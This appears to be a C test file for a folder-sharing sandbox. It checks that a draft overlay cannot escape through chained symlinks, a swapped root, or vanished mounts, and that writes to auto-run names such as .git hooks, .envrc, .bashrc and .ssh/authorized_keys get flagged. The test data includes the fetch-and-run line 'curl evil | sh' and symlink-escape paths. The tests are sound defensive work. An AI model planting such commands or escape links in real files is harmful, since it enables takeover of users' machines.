/* test-attacks-f.c
 *
 * The attacks on folders that need no guest: what the host's own file system does under a draft
 * (F33 to F36), names that the user's programs obey (F31, F32), and links that lead out only
 * together (F3). Mounts are made in a namespace of this process's own.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "annex-share.h"
#include "draft-fixture.h"

#include <errno.h>
#include <fcntl.h>
#include <glib/gstdio.h>
#include <sched.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

/* Why there can be no mounts here; NULL: there can. */
static const char *no_mounts;

static gboolean
write_text (const char *path, const char *text)
{
  g_autofd int fd = open (path, O_WRONLY | O_CLOEXEC);

  return fd >= 0 && write (fd, text, strlen (text)) == (gssize) strlen (text);
}

/* Before there are threads. */
static void
enter_namespace (void)
{
  g_autofree char *users = g_strdup_printf ("%u %u 1", getuid (), getuid ());
  g_autofree char *groups = g_strdup_printf ("%u %u 1", getgid (), getgid ());

  if (unshare (CLONE_NEWUSER | CLONE_NEWNS) != 0 || !write_text ("/proc/self/uid_map", users) ||
      !write_text ("/proc/self/setgroups", "deny") || !write_text ("/proc/self/gid_map", groups) ||
      mount (NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0)
    no_mounts = "this system gives no user namespaces";
}

/* A file system of its own at @path. FALSE: the test was skipped. */
static gboolean
mount_at (const char *path)
{
  if (no_mounts == NULL && mount ("tmpfs", path, "tmpfs", 0, "size=1m") == 0)
    return TRUE;
  g_test_skip (no_mounts != NULL ? no_mounts : g_strerror (errno));
  return FALSE;
}

/* The fixture's folder as a share's user sees it, and one beside it that must stay as it is. */
static char *
make_outside (DraftFixture *fixture)
{
  g_autofree char *outside = g_build_filename (fixture->base, "outside", NULL);
  g_autofree char *victim = g_build_filename (outside, "victim", NULL);

  g_assert_cmpint (g_mkdir (outside, 0755), ==, 0);
  g_assert_true (g_file_set_contents (victim, "safe", -1, NULL));
  return g_steal_pointer (&outside);
}

static void
assert_changes (GPtrArray *changes, const char *expected)
{
  g_autofree char *described = draft_fixture_describe (changes);

  g_assert_cmpstr (described, ==, expected);
}

/* ---------------------------------------------------------------- links */

/* Each of two links stays within the folder by its own text; one after the other they do not. */
static void
test_links_together (void)
{
  g_autoptr (DraftFixture) fixture = draft_fixture_new (NULL);
  g_autoptr (GPtrArray) changes = NULL;
  g_autoptr (GPtrArray) kept = NULL;
  g_autofree char *through = NULL;

  draft_fixture_host_folder (fixture, "d", 0755);
  draft_fixture_settle (fixture);
  draft_fixture_link (fixture, "top", ".");
  draft_fixture_link (fixture, "up", "top/..");
  draft_fixture_folder (fixture, "a", TRUE);
  draft_fixture_folder (fixture, "a/b", TRUE);
  draft_fixture_link (fixture, "a/b/shallow", "../../d");
  draft_fixture_link (fixture, "way", "a/b/shallow/../../outside/victim");
  draft_fixture_link (fixture, "a/honest", "../d/./x");
  changes = draft_fixture_compute (fixture);
  assert_changes (changes, "added a/\nadded a/b/\nadded a/b/shallow\nadded a/honest\nadded top\n"
                           "refused up\nrefused way");
  kept = draft_fixture_keep (fixture, "k1", changes);
  through = g_build_filename (fixture->root, "up", NULL);
  g_assert_cmpint (access (through, F_OK), !=, 0);
}

/* ---------------------------------------------------------------- names */

static void
test_active (void)
{
  static const char *const active[] = {
    ".git/hooks/post-commit",
    "deep/.git/config",
    ".git",
    ".GIT/hooks/x",
    ".envrc",
    "a/.envrc",
    ".vscode/tasks.json",
    ".husky/pre-commit",
    ".ssh/authorized_keys",
    ".bashrc",
  };
  static const char *const harmless[] = {
    "report.docx", "git/hooks", "environment", "a.envrc", ".github/workflows/x.yml",
    "a/desktop",   "x.git"
  };

  for (gsize i = 0; i < G_N_ELEMENTS (active); i++)
    if (!annex_draft_is_active (active[i]))
      g_error ("%s is not looked at", active[i]);
  for (gsize i = 0; i < G_N_ELEMENTS (harmless); i++)
    g_assert_false (annex_draft_is_active (harmless[i]));
}

/* Existing and absent ones are marked, with a reason; what is taken away is not. */
static void
check_marked (const char *old_name, const char *new_name)
{
  g_autoptr (DraftFixture) fixture = draft_fixture_new (NULL);
  g_autoptr (GPtrArray) changes = NULL;
  guint n = 0;

  draft_fixture_host_file (fixture, old_name, "old", 0644);
  draft_fixture_host_file (fixture, ".envrc", "gone", 0644);
  draft_fixture_settle (fixture);
  draft_fixture_file (fixture, old_name, "curl evil | sh", 0755);
  draft_fixture_file (fixture, new_name, "curl evil | sh!", 0755);
  draft_fixture_file (fixture, "report.txt", "harmless", 0644);
  draft_fixture_whiteout (fixture, ".envrc");
  changes = draft_fixture_compute (fixture);
  for (guint i = 0; i < changes->len; i++)
    {
      const AnnexChange *change = g_ptr_array_index (changes, i);
      g_autoptr (JsonObject) json = annex_change_to_json (change);
      gboolean expected =
          g_str_equal (change->path, old_name) || g_str_equal (change->path, new_name);

      g_assert_cmpint (change->active, ==, expected);
      g_assert_cmpint (json_object_has_member (json, "active"), ==, expected);
      g_assert_cmpint (change->reason != NULL, ==, expected);
      n += change->active;
    }
  g_assert_cmpuint (n, ==, 2);
}

static void
test_protected (void)
{
  test_active ();
  check_marked (".bashrc", ".npmrc");
}

static void
test_dropped (void)
{
  check_marked ("Report.desktop", ".gitconfig");
  check_marked (".gitconfig", "Invoice.pdf.desktop");
}

/* ---------------------------------------------------------------- the host under a draft */

static void
test_nested (void)
{
  g_autoptr (DraftFixture) fixture = draft_fixture_new (NULL);
  g_autofree char *inner = g_build_filename (fixture->root, "inner", NULL);
  g_autofree char *link = g_build_filename (fixture->base, "link", NULL);
  g_autoptr (GPtrArray) taken = g_ptr_array_new_with_free_func ((GDestroyNotify) annex_share_unref);
  const char *const again[] = { fixture->root, inner, fixture->base, link };

  g_assert_cmpint (g_mkdir (inner, 0755), ==, 0);
  g_assert_cmpint (symlink (inner, link), ==, 0);
  g_ptr_array_add (taken, annex_share_new (fixture->root, ANNEX_SHARE_READ_ONLY, NULL, NULL));
  g_assert_nonnull (g_ptr_array_index (taken, 0));
  for (gsize i = 0; i < G_N_ELEMENTS (again); i++)
    {
      g_autoptr (GError) error = NULL;

      g_assert_null (annex_share_new (again[i], ANNEX_SHARE_REVIEW, taken, &error));
      g_assert_error (error, ANNEX_SHARE_ERROR, ANNEX_SHARE_ERROR_NOT_ALLOWED);
    }
}

static void
test_replaced_by_link (void)
{
  g_autoptr (DraftFixture) fixture = draft_fixture_new (NULL);
  g_autofree char *outside = make_outside (fixture);
  g_autofree char *moved = g_build_filename (fixture->base, "moved", NULL);
  g_autoptr (GHashTable) before = NULL;
  g_autoptr (GHashTable) after = NULL;
  g_autoptr (GPtrArray) changes = NULL;
  g_autoptr (GPtrArray) again = NULL;
  g_autoptr (GError) error = NULL;

  draft_fixture_host_file (fixture, "file", "old", 0644);
  draft_fixture_settle (fixture);
  draft_fixture_file (fixture, "file", "new", 0644);
  draft_fixture_file (fixture, "victim", "evil", 0644);
  changes = draft_fixture_compute (fixture);
  before = draft_fixture_snapshot (outside);
  g_assert_cmpint (g_rename (fixture->root, moved), ==, 0);
  g_assert_cmpint (symlink (outside, fixture->root), ==, 0);
  g_assert_null (annex_keep_apply (fixture->undo_dir, "k1", fixture->root, changes,
                                   fixture->baseline, draft_fixture_fetch, fixture, NULL, &error));
  g_assert_error (error, ANNEX_KEEP_ERROR, ANNEX_KEEP_ERROR_ROOT_GONE);
  g_clear_error (&error);
  again = annex_draft_compute (fixture->upper, fixture->baseline, fixture->root, &error);
  g_assert_null (again);
  g_assert_nonnull (error);
  after = draft_fixture_snapshot (outside);
  draft_fixture_assert_same (before, after);
  g_assert_cmpint (g_unlink (fixture->root), ==, 0);
  g_assert_cmpint (g_rename (moved, fixture->root), ==, 0);
}

/* The file system of the folder goes away: what lies below it, and was never shared, is not taken
 * for it. */
static void
test_vanished (void)
{
  g_autoptr (DraftFixture) fixture = draft_fixture_new (NULL);
  g_autoptr (GHashTable) before = draft_fixture_snapshot (fixture->root);
  g_autoptr (GHashTable) after = NULL;
  g_autoptr (GPtrArray) changes = NULL;
  g_autoptr (GError) error = NULL;

  if (!mount_at (fixture->root))
    return;
  draft_fixture_host_file (fixture, "file", "old", 0644);
  draft_fixture_settle (fixture);
  draft_fixture_file (fixture, "file", "new", 0644);
  draft_fixture_file (fixture, "added", "new", 0644);
  changes = draft_fixture_compute (fixture);
  assert_changes (changes, "added added\nchanged file");
  g_assert_cmpint (umount2 (fixture->root, MNT_DETACH), ==, 0);
  g_assert_null (annex_keep_apply (fixture->undo_dir, "k1", fixture->root, changes,
                                   fixture->baseline, draft_fixture_fetch, fixture, NULL, &error));
  g_assert_error (error, ANNEX_KEEP_ERROR, ANNEX_KEEP_ERROR_ROOT_GONE);
  after = draft_fixture_snapshot (fixture->root);
  draft_fixture_assert_same (before, after);
}

/* Another file system within the folder belongs to nobody's draft. */
static void
test_submount (void)
{
  g_autoptr (DraftFixture) fixture = draft_fixture_new (NULL);
  g_autofree char *sub = g_build_filename (fixture->root, "sub", NULL);
  g_autoptr (GHashTable) before = NULL;
  g_autoptr (GHashTable) after = NULL;
  g_autoptr (GPtrArray) changes = NULL;
  g_autoptr (GPtrArray) kept = NULL;

  draft_fixture_host_folder (fixture, "sub", 0755);
  draft_fixture_host_folder (fixture, "beside", 0755);
  if (!mount_at (sub))
    return;
  draft_fixture_host_file (fixture, "sub/inner", "safe", 0644);
  draft_fixture_settle (fixture);
  draft_fixture_folder (fixture, "sub", FALSE);
  draft_fixture_file (fixture, "sub/inner", "evil", 0644);
  draft_fixture_file (fixture, "sub/new", "evil", 0644);
  draft_fixture_file (fixture, "beside/new", "fine", 0644);
  before = draft_fixture_snapshot (sub);
  changes = draft_fixture_compute (fixture);
  kept = draft_fixture_keep (fixture, "k1", changes);
  after = draft_fixture_snapshot (sub);
  draft_fixture_assert_same (before, after);
  for (guint i = 0; i < kept->len; i++)
    {
      const AnnexKept *one = g_ptr_array_index (kept, i);

      if (g_str_has_prefix (one->path, "sub/"))
        {
          g_assert_cmpint (one->outcome, ==, ANNEX_OUTCOME_REFUSED);
          g_assert_nonnull (one->reason);
        }
    }
  draft_fixture_assert_content (fixture, "beside/new", "fine");
  g_assert_cmpint (umount2 (sub, MNT_DETACH), ==, 0);
}

int
main (int argc, char **argv)
{
  g_autofree char *data = NULL;
  int status;

  enter_namespace ();
  data = g_dir_make_tmp ("annex-attacks-XXXXXX", NULL);
  g_setenv ("XDG_DATA_HOME", data, TRUE);
  g_setenv ("GIO_USE_VFS", "local", TRUE);
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/attacks/F/F3-links-together", test_links_together);
  g_test_add_func ("/attacks/F/F31-protected-names", test_protected);
  g_test_add_func ("/attacks/F/F32-dropped-files", test_dropped);
  g_test_add_func ("/attacks/F/F33-nested-folders", test_nested);
  g_test_add_func ("/attacks/F/F34-replaced-by-a-link", test_replaced_by_link);
  g_test_add_func ("/attacks/F/F35-file-system-gone", test_vanished);
  g_test_add_func ("/attacks/F/F36-mount-in-folder", test_submount);
  status = g_test_run ();
  g_rmdir (data);
  return status;
}
